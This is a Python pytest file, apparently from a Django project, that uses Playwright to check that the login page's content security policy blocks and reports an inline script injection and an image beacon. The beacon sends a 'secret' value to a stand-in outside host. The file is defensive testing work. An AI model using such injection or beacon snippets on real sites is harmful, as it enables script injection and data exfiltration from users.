"""That a browser reports what the content policy refuses; elsewhere the reports of every test must be none."""

from typing import Any

from playwright.sync_api import Browser
from pytest_django.live_server_helper import LiveServer

from tests.processes.conftest import wait_until

INLINE = "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = true'}))"
ELSEWHERE = "new Image().src = 'https://elsewhere.example/pixel.gif?what=secret'"


def test_what_the_policy_refuses_does_not_run_and_is_reported(
    browser: Browser, live_server: LiveServer, reports: list[dict[str, Any]]
) -> None:
    page = browser.new_page(base_url=live_server.url)
    page.goto("/accounts/login/")

    page.evaluate(f"() => {{ {INLINE}; {ELSEWHERE} }}")
    wait_until(lambda: len(reports) == 2)

    assert page.evaluate("window.ran") is None
    told = {(report["directive"], report["refused"], report["page"]) for report in reports}
    assert told == {
        ("script-src-elem", "inline", "account_login"),
        ("img-src", "https://elsewhere.example", "account_login"),
    }
    reports.clear()
    page.close()
